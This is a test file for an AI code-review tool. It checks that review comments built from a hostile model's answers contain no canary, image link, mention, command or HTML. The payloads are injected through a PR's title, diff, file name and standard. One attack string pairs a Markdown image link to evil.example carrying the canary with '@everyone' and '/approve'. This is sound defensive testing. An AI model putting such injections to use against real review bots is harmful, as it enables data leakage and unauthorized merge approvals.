import { startOpenaiSimulator } from '@debrief/simulators/openai/server'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { analyze } from '../analyze.ts'
import { createModelAnalyzer } from '../model/analyzer.ts'
import { dangersIn } from '../model/testing/dangers-in.ts'
import { hostilePayloads } from '../model/testing/hostile-payloads.ts'
import { buildFile, buildMaterial } from '../testing/build-material.ts'
import { FINDING_MARKER } from './own-comments.ts'
import { toFindings } from './to-findings.ts'
import { writeReview } from './write-review.ts'

const CANARY = 'KANARIE-4711'
const MARKER = '<!-- debrief:run:1 -->'
const STANDARD = '5a0c1f8e-0000-4000-8000-000000000001'
const CODE = ['const note = load()', 'save(note)', 'const other = load()', 'save(other)']

const PLACES: Record<
  string,
  (payload: string) => { path: string; lines: string[]; title: string; standard: string }
> = {
  title: (payload) => ({ path: 'src/a.ts', lines: CODE, title: payload, standard: 'Check first' }),
  diff: (payload) => ({
    path: 'src/a.ts',
    lines: [...CODE, `// ${payload.replaceAll('\n', ' ')}`],
    title: 'Assign',
    standard: 'Check first',
  }),
  'file name': (payload) => ({
    path: `src/${payload.replaceAll('\n', ' ')}.ts`,
    lines: CODE,
    title: 'Assign',
    standard: 'Check first',
  }),
  standard: (payload) => ({ path: 'src/a.ts', lines: CODE, title: 'Assign', standard: payload }),
}

/** Removes markers, code spans and suggestion blocks, because GitHub renders no Markdown in them. */
const withoutCode = (text: string) =>
  text
    .replace(MARKER, '')
    .replace(FINDING_MARKER, '')
    .replace(/(`{3,})suggestion\n[\s\S]*?\n\1/g, '')
    .replace(/`[^`\n]*`/g, '')

describe('L7: comments written from a hostile model’s answers', () => {
  let simulator: Awaited<ReturnType<typeof startOpenaiSimulator>>
  beforeAll(async () => {
    simulator = await startOpenaiSimulator({ validate: false })
  })
  afterAll(() => simulator.close())

  it.each(Object.keys(PLACES))(
    'contain no canary, image, link, mention, command or HTML, and are short: payloads in the %s',
    async (place) => {
      const { baseUrl, apiKey } = simulator
      const analyzer = createModelAnalyzer({ baseUrl, apiKey, model: 'gpt-4.1', mostOutputTokens: 900_000 })
      const found: string[] = []
      let findingsCount = 0
      for (const [index, payload] of hostilePayloads().entries()) {
        const attack = `${payload} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
        simulator.script({ kind: 'hostile', text: index % 2 === 0 ? attack : payload, grounded: true })
        const { path, lines, title, standard } = PLACES[place]!(payload)
        const material = buildMaterial({ title, files: [buildFile(path, lines.join('\n'))], mergedAt: null })
        const standards = [
          {
            id: STANDARD,
            title: standard,
            description: standard,
            category: 'testing',
            programmingLanguage: null,
            languages: [],
            paths: [],
          },
        ]
        const context = { standards, recurringGroups: [], disputes: [] }
        const result = await analyze(material, context, { analyzer, signal: new AbortController().signal })
        const findings = toFindings(result, material).map((finding) => ({ ...finding, standardId: STANDARD }))
        findingsCount += findings.length
        const titles = new Map([[STANDARD, standard]])
        const shown = { findings, material, result, standards: titles, marker: MARKER, isIncrement: false }
        const review = writeReview(shown)
        const inText = writeReview({ ...shown, isInline: false })
        const posted = [review.body, ...review.comments.map(({ body }) => body), inText.body]
        found.push(...posted.map(withoutCode).flatMap(dangersIn))
        found.push(...posted.filter((text) => text.includes(CANARY)))
        expect(Math.max(...posted.map(({ length }) => length))).toBeLessThan(20_000)
      }
      expect(found).toEqual([])
      console.info(`${place}: ${findingsCount} findings were left of what it said`)
    },
    120_000,
  )
})
